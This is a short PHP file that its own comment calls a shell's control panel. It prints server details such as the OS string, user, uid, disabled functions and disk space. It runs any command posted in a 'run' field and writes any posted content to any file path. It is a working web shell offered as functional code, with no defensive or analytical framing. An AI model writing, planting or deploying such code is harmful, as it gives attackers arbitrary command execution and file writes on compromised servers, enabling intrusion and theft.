<?php
// A shell's control panel: server details, then commands and file writes on request.
echo "<pre>" . php_uname() . "\n";
echo "user: " . get_current_user() . " uid " . getmyuid() . "\n";
echo "disabled: " . ini_get('disable_functions') . "\n";
echo "free: " . disk_free_space("/") . "\n";
if (isset($_POST['run'])) {
  echo shell_exec($_POST['run']);
}
if (isset($_POST['save'])) {
  file_put_contents($_POST['to'], $_POST['save']);
}
